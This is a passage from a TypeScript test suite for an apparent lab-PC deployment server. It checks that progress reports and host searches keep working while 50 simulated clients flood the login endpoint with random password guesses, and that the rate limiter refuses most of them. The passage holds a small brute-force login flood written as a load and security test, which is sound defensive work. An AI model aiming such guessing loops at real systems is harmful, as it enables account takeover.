    assert.is((await call(base, 'POST', '/api/v1/groups', { as: admin, body: { name: 'flood-room' } })).status, 201);
    assert.is(
      (await call(base, 'POST', '/api/v1/hosts/import', { as: admin, csv: ['mac,group', ...pcs.map((m) => `${m},flood-room`)].join('\n') })).status,
      200,
    );
    const task = (await call(base, 'POST', '/api/v1/tasks', { as: admin, body: { kind: 'deploy', image: 'lab', group: 'flood-room' }, schema: TaskSchema }))
      .body;
    const keys = await Promise.all(pcs.map(async (m) => (await call(base, 'GET', `/api/v1/hosts/${m}/task`, { schema: DeployTaskSchema })).body.key));
    const until = Date.now() + 5_000;
    const statuses = { reports: new Map<number, number>(), reads: new Map<number, number>(), logins: new Map<number, number>() };
    const count = (m: Map<number, number>, status: number): void => void m.set(status, (m.get(status) ?? 0) + 1);
    const perPc = pcs.map(() => 0);
    // Each loop is bounded by the 5 s.
    const reporters = pcs.map(async (m, i) => {
      await new Promise((r) => setTimeout(r, (i / pcs.length) * 1000));
      for (let n = 0; Date.now() < until; n++) {
        count(
          statuses.reports,
          (await call(base, 'POST', `/api/v1/tasks/${task.id}/hosts/${m}/progress`, { as: keys[i], body: { ...report('running'), piecesDone: n } })).status,
        );
        perPc[i] = n + 1;
        await new Promise((r) => setTimeout(r, 1000));
      }
    });
    const reader = (async () => {
      while (Date.now() < until) {
        count(statuses.reads, (await call(base, 'GET', '/api/v1/hosts?search=52:54:00:f1', { as: admin })).status);
        await new Promise((r) => setTimeout(r, 200));
      }
    })();
    const flooders = Array.from({ length: 50 }, async (_, i) => {
      while (Date.now() < until)
        count(
          statuses.logins,
          (
            await callFrom(`127.0.1.${i + 1}`, tls, 'POST', '/api/v1/session', {
              body: { username: i % 5 ? `guess-${i}` : 'admin', password: `x${Math.random()}` },
            })
          ).status,
        );
    });
    await Promise.all([...reporters, reader, ...flooders]);
    const text = JSON.stringify(Object.fromEntries(Object.entries(statuses).map(([k, m]) => [k, Object.fromEntries(m)])));
    assert.equal([...statuses.reports.keys()], [200], `every PC's report answered 200: ${text}`);
    assert.ok(Math.min(...perPc) >= 2, `every PC reported more than once in the 5 s (fewest: ${Math.min(...perPc)}): ${text}`);
    assert.equal([...statuses.reads.keys()], [200], `every read answered 200: ${text}`);
    const logins = [...statuses.logins.values()].reduce((a, b) => a + b, 0);
    assert.not.ok(statuses.logins.has(200), 'no guess got in');
    assert.ok((statuses.logins.get(429) ?? 0) > logins / 2, `most guesses refused before a password was checked: ${text}`);
    await call(base, 'POST', `/api/v1/tasks/${task.id}/cancel`, { as: admin });
  },
);

T.run();

const end = suite('trust: teardown');
end('stop everything', async () => {
  await killAll();
  cleanup();
});
end.run();
